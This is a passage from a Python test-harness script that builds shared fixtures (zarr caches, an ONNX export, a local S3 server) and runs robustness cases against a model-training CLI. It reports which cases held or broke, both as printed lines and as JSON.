        store = root / f"{name}.zarr"
        if not store.exists():
            r = finish(
                start(CACHE.format(teacher=shared["teacher"], store=store) + f" --seed {seed}"), 300, time.monotonic()
            )
            assert r[0] == 0, r[2]
        shared[name] = store
    if need_onnx:
        onnx = root / "model.onnx"
        if not onnx.exists():
            used = resource.getrusage(resource.RUSAGE_CHILDREN)
            r = finish(start(["export", run, "--out", onnx]), 300, time.monotonic())
            assert r[0] == 0, r[2]
            now = resource.getrusage(resource.RUSAGE_CHILDREN)  # the export's CPU seconds
            (root / "export_seconds").write_text(str(now.ru_utime + now.ru_stime - used.ru_utime - used.ru_stime))
        shared["onnx"], shared["export_seconds"] = onnx, float((root / "export_seconds").read_text())
    if need_s3:
        server, proxy, env, client = start_s3()
        shared.update(s3_server=server, proxy=proxy, s3_env=env, s3_client=client)
        store = f"s3://{BUCKET}/shared-store.zarr"
        r = finish(
            start(CACHE.format(teacher=shared["teacher"], store=store).replace("digits@100", "digits@600"), env),
            300,
            time.monotonic(),
        )
        assert r[0] == 0, r[2]
        shared["s3_store"] = store
    return shared


def _write_images(root: Path):
    import numpy as np
    from PIL import Image

    rng = np.random.default_rng(0)
    for split, n in (("train", 4), ("val", 2)):
        for c in range(2):
            os.makedirs(root / split / f"c{c}", exist_ok=True)
            for k in range(n):
                Image.fromarray(rng.integers(0, 255, (40, 48, 3), dtype=np.uint8)).save(
                    root / split / f"c{c}" / f"{k}.JPEG"
                )


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", help="comma-separated case ids")
    parser.add_argument("--json", help="write the results here")
    parser.add_argument(
        "--root",
        default=os.path.join(tempfile.gettempdir(), "probe19-shared"),
        help="shared fixtures (kept between runs)",
    )
    opts = parser.parse_args()
    cases = [c for c in CASES if not opts.only or c.id in opts.only.split(",")]
    root = Path(opts.root)
    root.mkdir(parents=True, exist_ok=True)
    shared = build_shared(root, any(c.s3 for c in cases), any(c.run is sigterm_during_export for c in cases))
    results = []
    for case in cases:
        with tempfile.TemporaryDirectory(prefix=f"probe19-{case.id[:20]}-") as tmp:
            w = W(Path(tmp), shared, env=dict(shared.get("s3_env", {})))
            if case.setup:
                case.setup(w)
            before = snapshot(w.keep)
            if case.run:
                code, out, err, seconds, rss = case.run(w)
            else:
                code, out, err, seconds, rss = run_cli(case.args, w, case.bound)
            problem = judge(case, w, code, out, err, seconds, before)
        results.append(
            {
                "id": case.id,
                "class": case.cls,
                "origin": case.origin,
                "held": problem is None,
                "problem": problem,
                "exit": code,
                "seconds": round(seconds, 1),
                "max_rss_mb": round(rss / 1024),
                "last_line": (err.strip().splitlines() or [""])[-1][:200],
            }
        )
        r = results[-1]
        print(
            f"{'HELD ' if r['held'] else 'BROKE'} {case.id:<50} {case.origin:<5} exit {str(code):<7} "
            f"{seconds:5.1f} s {r['max_rss_mb']:5d} MB" + ("" if r["held"] else f"  {problem}"),
            flush=True,
        )
    held = sum(r["held"] for r in results)
    issue = [r for r in results if r["origin"] == "issue"]
    new = [r for r in results if r["origin"] == "new"]
    print(
        f"\n{held}/{len(results)} held; the reported breaks: {sum(r['held'] for r in issue)}/{len(issue)}; "
        f"this probe's own cases: {sum(r['held'] for r in new)}/{len(new)}"
    )
    if opts.json:
        Path(opts.json).write_text(json.dumps(results, indent=2) + "\n")
    if "s3_server" in shared:
        shared["s3_server"].stop()


if __name__ == "__main__":
    main()
